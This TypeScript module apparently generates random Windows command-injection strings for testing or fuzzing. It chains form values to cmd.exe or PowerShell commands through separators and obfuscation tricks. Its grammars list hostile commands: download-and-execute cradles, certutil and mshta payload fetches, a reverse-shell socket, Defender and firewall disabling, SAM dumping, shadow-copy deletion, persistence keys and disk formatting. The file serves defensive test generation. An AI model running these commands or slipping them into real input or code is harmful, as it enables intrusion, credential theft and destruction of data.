import type { Random } from "../random.ts"
import { windowsFile } from "./files.ts"
import { type Grammar, hostName, identifier, ipAddress, mixCase, oneOf } from "./grammar.ts"

/** Another command for cmd.exe or PowerShell after a value, from their documentation. */
export function windowsInjection(random: Random): string {
  const command = oneOf(random, WINDOWS_COMMANDS)
  const disguised = oneOf(random, [
    () => command,
    () => command,
    () => mixCase(random, command),
    (r) => command.replace(/^[a-z]+/i, (word) => insertPiece(r, word, r.pick(["^", '""', "^"]))),
    () => command.replaceAll(" ", random.pick(["%20", "+", "%09", ",", ";", "  "])),
    () => command.replace(/^[a-z]+/i, (word) => word.split("").join("^")),
    () => command.replace(/^cmd/, "%COMSPEC%"),
    () => `set x=${command}&&call %x%`,
  ])
  if (random.chance(0.08) && disguised.includes(" ")) return disguised
  const joint = random.pick([
    "&",
    "&&",
    "|",
    "||",
    "& ",
    " & ",
    " && ",
    " | ",
    "%26",
    "%7c",
    "\n",
    ";",
    "%0a",
  ])
  return `${hostValue(random)}${random.pick(["", "", "", '"', "'", '")', "%"])}${joint}${disguised}${random.pick(["", "", "&", " &", "|", "'", '"'])}`
}

const POWERSHELL: Grammar = (r) =>
  `${r.pick(["powershell", "powershell.exe", "pwsh"])} ${r.pick(["-nop ", "-w hidden ", "-ep bypass ", ""])}${r.pick(
    [
      `-enc ${btoa(identifier(r) + identifier(r) + identifier(r))}`,
      `-c "IEX(New-Object Net.WebClient).DownloadString('http://${hostName(r)}/${identifier(r)}.ps1')"`,
      `Invoke-WebRequest http://${hostName(r)}/${identifier(r)}.exe -OutFile x.exe`,
      `-Command "${r.pick(["Get-Process", "Get-ChildItem C:\\", "whoami", "Start-Sleep -s 10"])}"`,
      `Get-Content ${windowsFile(r)}`,
    ],
  )}`

/** Commands of PowerShell by their names and aliases, as a pipeline or alone. */
const CMDLET: Grammar = (r) => {
  const file = windowsFile(r)
  const host = hostName(r)
  return r.pick([
    "Get-Process",
    "Get-Service",
    "gci env:",
    "gps | select name",
    `Get-Content ${file}`,
    `gc ${file}`,
    `Get-ChildItem ${r.pick(["C:\\", "C:\\Users -Recurse", "Env:"])}`,
    `Invoke-Expression "${r.pick(["whoami", "dir", "ipconfig"])}"`,
    `IEX (New-Object Net.WebClient).DownloadString('http://${host}/${identifier(r)}')`,
    `iex(iwr http://${host}/${identifier(r)}.ps1 -UseBasicParsing)`,
    `iwr ${host}/${identifier(r)} -OutFile $env:TEMP\\${identifier(r)}.exe`,
    `Start-Process ${r.pick(["calc", "notepad", "cmd"])}`,
    `Start-Sleep ${r.pick(["", "-s ", "-Seconds "])}${r.between(1, 30)}`,
    `(Get-WmiObject Win32_OperatingSystem).${r.pick(["Caption", "Version"])}`,
    `[System.Net.Dns]::GetHostName()`,
    `[Diagnostics.Process]::Start('${r.pick(["calc", "cmd"])}')`,
    `Resolve-DnsName ${identifier(r)}.${host}`,
    `Test-Connection ${host}`,
    `Remove-Item -Recurse -Force ${r.pick(["C:\\*", file])}`,
    `Set-MpPreference -DisableRealtimeMonitoring $true`,
    `New-LocalUser ${identifier(r)}`,
    `$c=New-Object Net.Sockets.TCPClient('${host}',${r.between(1, 9999)})`,
  ])
}

/** Programs of every Windows that fetch, run, schedule or destroy, from Microsoft's reference. */
const WINDOWS_TOOL: Grammar = (r) => {
  const [name, host] = [identifier(r), hostName(r)]
  return r.pick([
    `for /f %i in ('${r.pick(["whoami", "hostname", "ver"])}') do nslookup %i.${host}`,
    `for /L %n in (1,1,${r.between(2, 99)}) do ping ${host}`,
    `forfiles /c "cmd /c ${r.pick(["dir", "whoami", "calc"])}"`,
    `wmic ${r.pick(["os get caption", "useraccount list", "process call create calc", "qfe list"])}`,
    `schtasks /create /tn ${name} /tr ${name}.exe /sc ${r.pick(["minute", "onlogon", "daily"])}`,
    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${name} /d ${name}.exe`,
    `reg save HKLM\\SAM ${name}`,
    `net localgroup administrators ${name} /add`,
    `net ${r.pick(["view", "share", "start", "accounts", "group /domain", "session"])}`,
    `netsh ${r.pick(["firewall set opmode disable", "advfirewall set allprofiles state off", "wlan show profiles"])}`,
    `sc ${r.pick(["query", `stop ${name}`, `create ${name} binPath= ${name}.exe`])}`,
    `tasklist ${r.pick(["/svc", "/v", "/m"])}`,
    `taskkill /f /im ${name}.exe`,
    `vssadmin delete shadows /all /quiet`,
    `icacls ${windowsFile(r)} /grant everyone:F`,
    `attrib +h ${name}.exe`,
    `findstr /si password *.${r.pick(["xml", "ini", "txt", "config"])}`,
    `more < ${windowsFile(r)}`,
    `copy ${windowsFile(r)} ${r.pick(["c:\\inetpub\\wwwroot\\", "\\\\"])}${name}.txt`,
    `rundll32 ${r.pick(["url.dll,OpenURL calc.exe", 'javascript:"\\..\\mshtml,RunHTMLApplication"', `\\\\${host}\\${name}.dll,0`])}`,
    `cscript //nologo ${name}.vbs`,
    `msiexec /q /i http://${host}/${name}.msi`,
    `curl http://${host}/${name}.exe -o %TEMP%\\${name}.exe`,
    `shutdown /${r.pick(["s", "r"])} /t ${r.below(60)}`,
    `format ${r.pick(["c:", "d:"])} /q`,
    `rd /s /q c:\\${name}`,
    `echo ${name}>${name}.${r.pick(["html", "txt", "asp"])}`,
    `type %${r.pick(["SYSTEMROOT", "WINDIR"])}%\\win.ini`,
    `dir %${r.pick(["USERPROFILE", "TEMP", "PROGRAMFILES"])}%`,
    `cd`,
    `${r.pick(["ver", "dir", "vol", "set", "path", "getmac", "whoami", "hostname", "tree"])}`,
  ])
}

const WINDOWS_COMMANDS: readonly Grammar[] = [
  CMDLET,
  CMDLET,
  CMDLET,
  WINDOWS_TOOL,
  WINDOWS_TOOL,
  WINDOWS_TOOL,
  WINDOWS_TOOL,
  (r) => `dir${r.pick(["", " c:\\", " /s", " C:\\Users", " c:\\inetpub"])}`,
  (r) => `type ${windowsFile(r)}`,
  (r) => `ping -n ${r.between(1, 30)} ${r.pick(["127.0.0.1", ipAddress(r), hostName(r)])}`,
  (r) =>
    r.pick([
      "ipconfig",
      "ipconfig /all",
      "whoami",
      "whoami /all",
      "systeminfo",
      "tasklist",
      "net user",
      "net localgroup administrators",
      "netstat -ano",
      "ver",
      "set",
      "hostname",
      "wmic process list",
      "query user",
      "arp -a",
      "route print",
    ]),
  (r) => `net user ${identifier(r)} ${identifier(r)} /add`,
  (r) =>
    `cmd${r.pick(["", ".exe"])} /c ${r.pick(["dir", "whoami", `type ${windowsFile(r)}`, "ver", "echo x"])}`,
  POWERSHELL,
  POWERSHELL,
  (r) => `certutil -urlcache -split -f http://${hostName(r)}/${identifier(r)}.exe`,
  (r) => `bitsadmin /transfer ${identifier(r)} http://${hostName(r)}/x.exe c:\\x.exe`,
  (r) =>
    `${r.pick(["mshta", "regsvr32 /s /n /u /i:", "rundll32"])} http://${hostName(r)}/${identifier(r)}.${r.pick(["hta", "sct", "dll"])}`,
  (r) => `timeout ${r.pick(["/t ", "-T ", ""])}${r.between(1, 30)}`,
  (r) => `nslookup ${identifier(r)}.${hostName(r)}`,
  (r) => `echo ${identifier(r)} > ${r.pick(["c:\\", "%TEMP%\\", ""])}${identifier(r)}.txt`,
  (r) => `reg query HKLM\\Software\\${identifier(r)}`,
  (r) => `del ${r.pick(["/q ", "/f ", ""])}${windowsFile(r)}`,
  (r) => `start ${r.pick(["calc", "calc.exe", "notepad.exe", `http://${hostName(r)}`])}`,
]

/** What a form that pings, looks up or converts would be given. */
export function hostValue(random: Random): string {
  return oneOf(random, [
    () => "",
    () => "",
    ipAddress,
    hostName,
    identifier,
    () => "127.0.0.1",
    () => "localhost",
    (r) => String(r.below(1000)),
    (r) => `${identifier(r)}.${r.pick(["txt", "jpg", "pdf", "png", "zip"])}`,
    (r) => `${identifier(r)}@${hostName(r)}`,
    (r) => `http://${hostName(r)}/`,
  ])
}

/** The word with `piece` somewhere inside. */
export function insertPiece(random: Random, word: string, piece: string): string {
  const at = random.between(1, Math.max(1, word.length - 1))
  return `${word.slice(0, at)}${piece}${word.slice(at)}`
}
